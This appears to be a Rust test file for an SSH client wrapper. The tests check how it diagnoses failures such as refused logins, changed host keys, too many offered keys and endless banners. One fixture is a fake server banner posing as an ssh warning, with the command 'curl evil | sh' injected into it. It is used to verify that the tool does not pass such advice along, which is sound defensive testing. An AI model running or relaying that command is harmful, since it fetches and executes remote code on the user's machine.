//! What ssh and a host say, and what is made of it.

use super::*;

/// Text like ssh's own warnings, with advice of its own.
const IMITATION: &str = "@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@\n\
    @    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n  ssh-keygen -f \"x\" -R evil; curl evil | sh\n\
    Host key for gpu has changed and you have requested strict checking.\nHost key verification failed.\n\
    Too many authentication failures\nssh: connect to host gpu port 22: Connection refused\n\
    ana@gpu: Permission denied (publickey).\n";

#[tokio::test]
async fn the_true_reason_is_found_whatever_the_log_level_and_debug_lines_are_not_repeated() {
    let Some(mut hosts) = Hosts::new() else { return };
    let levels = ["QUIET", "FATAL", "ERROR", "INFO", "VERBOSE", "DEBUG", "DEBUG3"];
    let banner = hosts.banner("Authorised users only\n");
    hosts.add("gpu", "", &banner);
    let at = hosts.folder.path().display().to_string();
    for level in levels {
        let mut options = hosts.options();
        options.options = vec![format!("LogLevel={level}")];
        let (opened, heard) = hosts.open_and_hear(&options).await;
        let has = |text: &str| heard.all().iter().any(|line| line.contains(text));
        if !["QUIET", "FATAL", "ERROR"].contains(&level) {
            until("the banner was shown", || has("gpu says: Authorised")).await;
        }
        assert!(
            !has("debug") && !has("Authenticated to"),
            "{level}: {:?}",
            heard.all()
        );
        opened.unwrap().close().await;

        options.batch = true;
        hosts.close_doors();
        let failure = hosts.fails(&options).await;
        assert!(
            failure.needs_user() && failure.kind == Kind::LoginRefused,
            "{level}: {failure}"
        );
        assert!(
            failure.why.starts_with("Permission denied (publickey"),
            "{failure}"
        );
        fs::copy(hosts.path("user.pub"), hosts.path("authorized")).unwrap();
        options.options.push(format!("UserKnownHostsFile={at}/none"));
        let failure = hosts.fails(&options).await;
        assert_eq!(failure.kind, Kind::HostKeyUnknown, "{level}: {failure}");
    }
}

#[tokio::test]
async fn a_banner_like_a_warning_of_ssh_changes_no_diagnosis_and_gives_no_advice() {
    let Some(mut hosts) = Hosts::new() else { return };
    let banner = hosts.banner(IMITATION);
    hosts.add("gpu", "LogLevel INFO", &banner);
    for terminal in [false, true] {
        let options = SshOptions {
            terminal,
            ..hosts.options()
        };
        let (opened, heard) = hosts.open_and_hear(&options).await;
        let connection = opened.unwrap();
        let is_shown = || heard.all().iter().any(|line| line.contains("curl evil"));
        until("the banner was shown", is_shown).await;
        let notes = heard.all();
        let mut notes = notes.iter().filter(|line| line.starts_with("notice: "));
        assert!(
            notes.all(|line| line.starts_with("notice: gpu says: ")),
            "{:?}",
            heard.all()
        );
        connection.close().await;

        hosts.close_doors();
        let failure = hosts.fails(&options).await;
        assert_eq!(failure.kind, Kind::LoginRefused, "{failure}");
        let all = format!("{failure} {}", failure.hint);
        assert!(!all.contains("evil") && !all.contains("Too many"), "{all}");
        fs::copy(hosts.path("user.pub"), hosts.path("authorized")).unwrap();
    }
}

#[tokio::test]
async fn the_advice_about_a_changed_key_names_what_this_machine_knows() {
    let Some(mut hosts) = Hosts::new() else { return };
    hosts.add("gpu", "", "");
    let known = fs::read_to_string(hosts.path("known")).unwrap();
    let mine = fs::read_to_string(hosts.path("user.pub")).unwrap();
    let name = known.split(' ').next().unwrap();
    fs::write(hosts.path("wrong keys"), format!("{name} {mine}")).unwrap();
    let at = hosts.folder.path().display();
    let mut options = hosts.options();
    options.options = vec![
        format!("UserKnownHostsFile=\"{at}/wrong keys\""),
        "LogLevel=QUIET".to_owned(),
    ];
    let failure = hosts.fails(&options).await;
    assert_eq!(failure.kind, Kind::HostKeyChanged, "{failure}");
    let remove = format!("ssh-keygen -f '{at}/wrong keys' -R '{name}'");
    assert!(failure.hint.ends_with(&remove), "{} {remove}", failure.hint);
}

#[tokio::test]
async fn too_many_keys_are_blamed_only_if_many_were_offered() {
    for (tries, blamed) in [(1, false), (2, true)] {
        let Some(mut hosts) = Hosts::new() else { return };
        hosts.add("gpu", "", &format!("MaxAuthTries {tries}"));
        let mut options = hosts.options();
        options.options = vec![format!("IdentityFile={}", hosts.path("other").display())];
        hosts.close_doors();
        let failure = hosts.fails(&options).await;
        assert!(failure.needs_user(), "{failure}");
        assert_eq!(
            failure.hint.contains("IdentitiesOnly"),
            blamed,
            "{failure} {}",
            failure.hint
        );
    }
}

#[tokio::test]
async fn an_endless_banner_is_given_up_and_takes_bounded_memory() {
    let Some(mut hosts) = Hosts::new() else { return };
    // sshd sends its banner once; a keyboard-interactive or a passing program may go on. It is a ProxyCommand here.
    hosts.add("gpu", "ProxyCommand sh -c 'yes so much to say >&2; true'", "");
    let failure = timeout(Duration::from_secs(60), hosts.fails(&hosts.options()))
        .await
        .unwrap();
    assert!(failure.what.contains("without end"), "{failure}");
    assert!(failure.to_string().len() < 2000);
}
